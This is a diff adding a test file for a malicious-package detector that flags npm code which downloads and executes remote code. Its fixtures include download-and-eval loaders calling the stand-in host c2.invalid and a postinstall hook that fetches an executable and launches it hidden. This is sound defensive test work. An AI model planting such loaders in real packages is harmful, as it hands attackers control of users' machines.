@@ -1,0 +1,105 @@
+import { examine } from '../../../test/examine.ts';
+import { runsDownloadedCode } from './runs-downloaded-code.ts';
+
+const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
+
+examine(runsDownloadedCode, {
+  speaks: [
+    {
+      when: 'an answer is collected and evaluated',
+      files: {
+        'index.js': `require('https').get('https://c2.invalid/x', res => { let d = ''; res.on('data', c => (d += c)); res.on('end', () => eval(d)); })`,
+      },
+      weight: 'proof',
+      says: ['c2.invalid', 'when it is imported'],
+    },
+    {
+      when: 'fetch is followed by a function of the text',
+      files: { 'index.js': `fetch('https://c2.invalid/x').then(r => r.text()).then(t => new Function('require', t)(require))` },
+      weight: 'proof',
+    },
+    {
+      when: 'the code comes in the body of an error',
+      files: {
+        'index.js': `require('axios').post('https://c2.invalid/x', {}).catch(e => { new Function('require', e.response.data.token)(require) })`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'only a call brings it',
+      files: { 'index.js': `exports.go = async () => { const r = await fetch('https://c2.invalid/x'); eval(await r.text()); }` },
+      weight: 'strong',
+    },
+    {
+      when: 'a program is saved among temporary files and started unseen',
+      files: {
+        'package.json': hook,
+        'setup.js': `const p = require('path').join(require('os').tmpdir(), 'a.exe');
+          require('https').get('https://c2.invalid/a.exe', r => { r.pipe(require('fs').createWriteStream(p)); });
+          require('child_process').spawn(p, [], { detached: true, stdio: 'ignore', windowsHide: true });`,
+      },
+      weight: 'proof',
+      says: ['it saves a download as <temp>/a.exe'],
+    },
+    {
+      when: 'a script is saved and required',
+      files: {
+        'index.js': `const fs = require('fs'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/a.js', t); require('/tmp/a.js'); })`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'an installer fetches its own program and asks for its version',
+      files: {
+        'package.json': hook,
+        'setup.js': `const fs = require('fs'), to = require('path').join(__dirname, 'bin', 'tool');
+          fetch('https://downloads.invalid/tool.gz').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(to, b); fs.chmodSync(to, 0o755); require('child_process').execFileSync(to, ['--version']); })`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'a loader runs what its user names',
+      files: { 'index.js': `exports.load = async url => eval(await (await fetch(url)).text())` },
+      weight: 'context',
+    },
+    {
+      when: 'this machine is only one of two servers',
+      files: {
+        'index.js': `const u = Date.now() % 2 ? 'http://localhost:1/x' : 'https://c2.invalid/x'; fetch(u).then(r => r.text()).then(t => eval(t))`,
+      },
+      says: ['c2.invalid'],
+    },
+    {
+      when: 'another file of the package evaluates it',
+      files: {
+        'index.js': `const run = require('./run'); fetch('https://c2.invalid/x').then(r => r.text()).then(t => run(t))`,
+        'run.js': `module.exports = function (text) { eval(text) }`,
+      },
+      weight: 'proof',
+    },
+  ],
+  silent: [
+    {
+      when: 'an installer fetches its own program and does not start it',
+      files: {
+        'package.json': hook,
+        'setup.js': `const fs = require('fs'); fetch('https://downloads.invalid/tool.gz').then(r => r.arrayBuffer()).then(b => { fs.writeFileSync(__dirname + '/bin/tool', require('zlib').gunzipSync(b)); fs.chmodSync(__dirname + '/bin/tool', 0o755); })`,
+      },
+    },
+    { when: 'an answer is parsed as data', files: { 'index.js': `exports.get = async u => JSON.parse(await (await fetch(u)).text())` } },
+    {
+      when: 'a bundle fetches, and elsewhere evaluates a constant',
+      files: { 'index.js': `exports.f = () => fetch('https://api.invalid/x'); exports.g = () => eval('1 + a.b')` },
+    },
+    {
+      when: 'an answer only is an argument of a known program',
+      files: {
+        'index.js': `exports.up = async () => { const v = await (await fetch('https://api.invalid/latest')).text(); require('child_process').spawn('npm', ['install', v]); }`,
+      },
+    },
+    {
+      when: 'the server is this machine',
+      files: { 'index.js': `fetch('http://127.0.0.1:8080/x').then(r => r.text()).then(t => eval(t))` },
+    },
+  ],
+});
